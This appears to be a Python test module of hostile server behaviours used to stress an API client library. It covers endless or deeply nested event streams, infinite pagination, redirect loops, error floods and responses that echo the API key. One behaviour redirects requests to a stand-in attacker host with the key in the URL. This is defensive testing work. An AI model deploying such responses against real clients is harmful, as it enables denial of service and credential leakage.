"""Event streams, lists, redirects, refusals, and a target that repeats the key."""

from __future__ import annotations

import json

from hostile_server import KEY, Talk

from behaviours.registry import BLOCK, CHUNKED, STREAM, chunk, hostile

# -- event streams -----------------------------------------------------------------------------------------------------


@hostile
def endless_events(talk: Talk) -> None:
    """An event stream without end, as fast as it is read."""
    event = b'data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"m","choices":[]}\n\n'
    talk.send(STREAM)
    talk.forever(chunk(event * 500))


@hostile
def endless_heartbeat(talk: Talk) -> None:
    """An event stream of comments only, one every now and then, without end."""
    talk.send(STREAM)
    talk.forever(chunk(b": ping\n\n"), 0.05)


@hostile
def endless_line(talk: Talk) -> None:
    """An event whose line never ends."""
    talk.send(STREAM + chunk(b"data: "))
    talk.forever(chunk(BLOCK))


@hostile
def blank_lines(talk: Talk) -> None:
    """An event stream of three million blank lines."""
    talk.send(STREAM)
    for _ in range(46):
        talk.send(chunk(b"\n" * 65_536))
    talk.send(b"0\r\n\r\n")


@hostile
def many_comments(talk: Talk) -> None:
    """An event stream of a million comments."""
    talk.send(STREAM)
    for _ in range(100):
        talk.send(chunk(b":\n" * 10_000))
    talk.send(b"0\r\n\r\n")


@hostile
def deep_events(talk: Talk) -> None:
    """Events with JSON nested deeply."""
    deep = b'data: {"choices":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n\n"
    talk.answer(deep * 5 + b"data: [DONE]\n\n", "text/event-stream")


# -- lists, redirects, refusals ----------------------------------------------------------------------------------------


@hostile
def endless_pages(talk: Talk) -> None:
    """Lists whose pages never end: each has new objects."""
    honest = talk.honest()
    page = honest.json
    if talk.request.method == "GET" and isinstance(page, dict) and isinstance(page.get("data"), list):
        item = page["data"][0] if page["data"] and isinstance(page["data"][0], dict) else {"object": "thing"}
        data = [{**item, "id": f"{item.get('id', 'id')}-{talk.number}-{place}"} for place in range(20)]
        edges = {"first_id": data[0]["id"], "last_id": data[-1]["id"], "has_more": True}
        talk.relay(honest, json.dumps({**page, "data": data, **edges}).encode())
    else:
        talk.relay(honest)


@hostile
def never_ready(talk: Talk) -> None:
    """Objects that never leave the state in which they wait."""
    honest, body = talk.compact()
    for state in (b"completed", b"succeeded", b"failed", b"cancelled"):
        body = body.replace(b'"status":"%b"' % state, b'"status":"in_progress"')
    talk.relay(honest, body)


@hostile
def redirect_loop(talk: Talk) -> None:
    """Each request is redirected to itself."""
    talk.answer(b"", status=307, headers={"Location": talk.request.url.replace("http://target", "")})


@hostile
def redirect_with_the_key(talk: Talk) -> None:
    """Each request is redirected to another host, with the key in the URL."""
    talk.answer(b"", status=302, headers={"Location": f"http://evil.invalid/?key={KEY}"})


@hostile
def wait_for_a_year(talk: Talk) -> None:
    """429 to everything, with a Retry-After of a year."""
    talk.answer(b'{"error":{"code":"429","message":"later"}}', status=429, headers={"Retry-After": "31536000"})


@hostile
def refuses_the_key_later(talk: Talk) -> None:
    """Thirty honest answers, and then 401 to everything."""
    if talk.number <= 30:
        talk.relay(talk.honest())
    else:
        talk.answer(b'{"error":{"code":"401","message":"no"}}', status=401)


@hostile
def server_errors(talk: Talk) -> None:
    """500 to everything, with a page of a megabyte."""
    talk.answer(b"<pre>" + b"Traceback\n" * 100_000, "text/html", status=500)


# -- the key -----------------------------------------------------------------------------------------------------------


@hostile
def key_echo(talk: Talk) -> None:
    """The key in the body, in a header, in the reason, in an event's name."""
    body = json.dumps({"object": "list", "data": [], "message": f"your key is {KEY}"}).encode()
    head = f"HTTP/1.1 200 {KEY}\r\nX-Key: {KEY}\r\nSet-Cookie: k={KEY}\r\nContent-Type: application/json\r\n"
    talk.send(head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body)


@hostile
def key_in_pieces(talk: Talk) -> None:
    """The key in the body, split between two chunks."""
    talk.send(CHUNKED + chunk(b'{"message":"' + KEY[:9].encode()))
    talk.server.over.wait(0.01)
    talk.send(chunk(KEY[9:].encode() + b'"}') + b"0\r\n\r\n")


@hostile
def key_everywhere(talk: Talk) -> None:
    """Twenty megabytes that consist of the key."""
    talk.answer(KEY.encode() * (20_000_000 // len(KEY)), "text/plain")
